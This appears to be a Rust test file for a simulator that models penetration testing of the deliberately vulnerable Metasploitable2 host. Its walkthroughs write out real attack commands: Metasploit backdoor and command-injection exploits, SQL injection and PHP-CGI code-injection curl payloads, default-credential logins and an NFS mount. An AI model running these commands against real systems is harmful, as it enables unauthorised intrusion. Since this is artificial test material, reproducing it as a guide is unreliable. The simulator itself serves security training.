use super::*;
use crate::pentest::command::batch_console_commands;

const ADDR: &str = "10.0.2.4";

fn sim() -> Simulator {
    Simulator::new(metasploitable2())
}

fn run(sim: &Simulator, cmds: &[Command]) -> (Vec<SimOutput>, SimState) {
    let mut state = SimState::default();
    let mut outs = Vec::new();
    for c in &batch_console_commands(cmds.to_vec()) {
        let (o, s) = sim.simulate(c, &state);
        assert!(s.exploited.is_superset(&state.exploited), "exploited shrank");
        state = s;
        outs.push(o);
    }
    (outs, state)
}

fn sh(s: &str) -> Command {
    Command::shell(s.replace("ADDR", ADDR))
}

fn msf(s: &str) -> Command {
    Command::msf(s.replace("ADDR", ADDR))
}

pub(crate) fn open_ports(text: &str) -> Vec<u16> {
    text.lines()
        .filter(|l| l.contains("/tcp") && l.contains(" open "))
        .filter_map(|l| l.split('/').next()?.parse().ok())
        .collect()
}

#[test]
fn bundled_host_is_valid() {
    let host = metasploitable2();
    assert!(host.validate().is_empty(), "{:?}", host.validate());
    assert_eq!(host.ground_truth.len(), 10);
}

#[test]
fn host_round_trips_through_json() {
    let host = metasploitable2();
    let back = HostModel::from_json(host.to_json().as_bytes()).unwrap();
    assert_eq!(back, host);
}

#[test]
fn invalid_host_rejected() {
    let mut host = metasploitable2();
    host.services[1].port = 21;
    assert!(HostModel::from_json(host.to_json().as_bytes()).unwrap_err().contains("duplicate"));
}

#[test]
fn full_port_scan_lists_the_ten_services() {
    let (outs, _) = run(&sim(), &[sh("nmap -p- ADDR")]);
    assert!(outs[0].text.starts_with("[sim] "));
    assert_eq!(open_ports(&outs[0].text), vec![21, 22, 23, 25, 53, 80, 2049, 3306, 5432, 6667]);
}

#[test]
fn samba_ports_need_explicit_listing() {
    let (outs, _) = run(&sim(), &[sh("nmap -sV -p 139,445 ADDR")]);
    assert_eq!(open_ports(&outs[0].text), vec![139, 445]);
    assert!(outs[0].text.contains("Samba smbd"));
}

#[test]
fn vuln_scripts_annotate_ports() {
    let (outs, _) = run(&sim(), &[sh("nmap --script vuln ADDR")]);
    assert!(outs[0].text.contains("CVE:CVE-2011-2523"));
    assert!(outs[0].text.contains("irc-unrealircd-backdoor"));
}

#[test]
fn other_hosts_are_down() {
    let (outs, _) = run(&sim(), &[sh("nmap 10.0.2.99")]);
    assert!(outs[0].text.contains("0 hosts up"));
}

#[test]
fn unknown_command() {
    let (outs, state) = run(&sim(), &[sh("frobnicate --now")]);
    assert_eq!(outs[0].exit_status, 127);
    assert!(outs[0].text.contains("command not found"));
    assert_eq!(state, SimState::default());
}

#[test]
fn wildcard_rules() {
    assert_eq!(wildcard_match("abc", "abc"), Some(""));
    assert_eq!(wildcard_match("abc", "abcd"), None);
    assert_eq!(wildcard_match("a*d", "abcd"), Some("bc"));
    assert_eq!(wildcard_match("a*", "a"), Some(""));
    assert_eq!(wildcard_match("ab*ba", "aba"), None);
}

#[test]
fn usermap_session_in_one_batch() {
    let (outs, state) = run(
        &sim(),
        &[msf("use exploit/multi/samba/usermap_script; set RHOSTS ADDR; exploit; id")],
    );
    assert!(outs[0].text.contains("Command shell session 1 opened"));
    assert!(outs[0].text.contains("uid=0(root)"));
    assert!(state.exploited.contains(&(139, "CVE-NA".to_string())));
    assert_eq!(state.shells_open, 1);
}

#[test]
fn wrong_rhost_fails() {
    let (outs, state) = run(&sim(), &[msf("use exploit/unix/ftp/vsftpd_234_backdoor; set RHOSTS 10.0.2.5; exploit")]);
    assert!(outs[0].text.contains("no session was created"));
    assert!(state.exploited.is_empty());
}

#[test]
fn missing_rhosts_fails() {
    let (outs, _) = run(&sim(), &[msf("use exploit/unix/ftp/vsftpd_234_backdoor; run")]);
    assert!(outs[0].text.contains("RHOSTS"));
    assert_eq!(outs[0].exit_status, 1);
}

#[test]
fn search_then_use_by_index() {
    let (outs, state) = run(
        &sim(),
        &[msf("search unreal; use 0; set RHOST ADDR; exploit")],
    );
    assert!(outs[0].text.contains("Matching Modules"));
    assert!(state.exploited.contains(&(6667, "CVE-2010-2075".to_string())));
}

#[test]
fn telnet_wrong_password() {
    let (outs, state) = run(&sim(), &[sh("telnet ADDR"), sh("msfadmin"), sh("wrong")]);
    assert!(outs[2].text.contains("Login incorrect"));
    assert!(state.exploited.is_empty());
    assert!(state.pending.is_none());
}

#[test]
fn sqli_needs_a_quote() {
    let (_, state) = run(&sim(), &[sh("curl 'http://ADDR/mutillidae/index.php?page=user-info.php&username=admin'")]);
    assert!(state.exploited.is_empty());
}

#[test]
fn php_cgi_source_disclosure_is_not_exploitation() {
    let (outs, state) = run(&sim(), &[sh("curl http://ADDR/?-s")]);
    assert!(outs[0].text.contains("phpinfo"));
    assert!(state.exploited.is_empty());
}

/// One scripted walkthrough per ground-truth row, each at most six commands.
fn walkthroughs() -> Vec<((u16, &'static str), Vec<Command>)> {
    vec![
        ((21, "CVE-2011-2523"), vec![
            msf("use exploit/unix/ftp/vsftpd_234_backdoor"),
            msf("set RHOSTS ADDR"),
            msf("exploit"),
        ]),
        ((22, "CVE-NA"), vec![sh("sshpass -p msfadmin ssh -o StrictHostKeyChecking=no msfadmin@ADDR id")]),
        ((23, "CVE-NA"), vec![sh("telnet ADDR"), sh("msfadmin"), sh("msfadmin")]),
        ((25, "CVE-NA"), vec![sh("smtp-user-enum -M VRFY -U /usr/share/wordlists/users.txt -t ADDR")]),
        ((53, "CVE-NA"), vec![sh("dig @ADDR version.bind chaos txt")]),
        ((80, "CVE-NA"), vec![sh("curl \"http://ADDR/mutillidae/index.php?page=user-info.php&username=%27%20or%201=1%20--%20&password=x\"")]),
        ((2049, "CVE-NA"), vec![sh("showmount -e ADDR"), sh("mkdir -p /tmp/nfs"), sh("mount -t nfs ADDR:/ /tmp/nfs")]),
        ((6667, "CVE-2010-2075"), vec![msf("use exploit/unix/irc/unreal_ircd_3281_backdoor; set RHOSTS ADDR; exploit")]),
        ((139, "CVE-NA"), vec![msf("use exploit/multi/samba/usermap_script; set RHOSTS ADDR; exploit")]),
        ((80, "CVE-2012-1823"), vec![sh("curl -d \"<?php system('id'); ?>\" \"http://ADDR/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input\"")]),
    ]
}

#[test]
fn every_row_is_reachable() {
    let sim = sim();
    let truth: BTreeSet<(u16, String)> = sim
        .ground_truth()
        .iter()
        .map(|v| (v.port.unwrap(), v.id.clone()))
        .collect();
    let mut reached = BTreeSet::new();
    for (row, cmds) in walkthroughs() {
        assert!(cmds.len() <= 6);
        let (outs, state) = run(&sim, &cmds);
        let want = (row.0, row.1.to_string());
        assert!(state.exploited.contains(&want), "{want:?} not reached: {:#?}", outs);
        assert!(state.exploited.is_subset(&truth));
        reached.extend(state.exploited);
    }
    assert_eq!(reached, truth);
}

#[test]
fn alternative_routes() {
    let sim = sim();
    let routes = vec![
        ((22, "CVE-NA"), vec![sh("mysql -h ADDR -u msfadmin -pmsfadmin")]),
        ((22, "CVE-NA"), vec![sh("PGPASSWORD=postgres psql -h ADDR -U postgres -c 'select 1'")]),
        ((22, "CVE-NA"), vec![sh("hydra -l user -p user ssh://ADDR")]),
        ((22, "CVE-NA"), vec![sh("ssh msfadmin@ADDR"), sh("msfadmin")]),
        ((80, "CVE-NA"), vec![sh("sqlmap -u \"http://ADDR/mutillidae/index.php?page=user-info.php&username=a\" --batch --dbs")]),
        ((80, "CVE-2012-1823"), vec![msf("use exploit/multi/http/php_cgi_arg_injection; set RHOSTS ADDR; run")]),
        ((25, "CVE-NA"), vec![msf("use auxiliary/scanner/smtp/smtp_enum; set RHOSTS ADDR; run")]),
        ((139, "CVE-NA"), vec![msf("use auxiliary/admin/smb/samba_symlink_traversal; set RHOSTS ADDR; set SMBSHARE tmp; run")]),
        ((23, "CVE-NA"), vec![msf("use auxiliary/scanner/telnet/telnet_login; set RHOSTS ADDR; set USERNAME user; set PASSWORD user; run")]),
    ];
    for (row, cmds) in routes {
        let (outs, state) = run(&sim, &cmds);
        assert!(state.exploited.contains(&(row.0, row.1.to_string())), "{row:?}: {outs:#?}");
    }
}

#[test]
fn simulation_is_deterministic() {
    let sim = sim();
    for (_, cmds) in walkthroughs() {
        assert_eq!(run(&sim, &cmds), run(&sim, &cmds));
    }
}
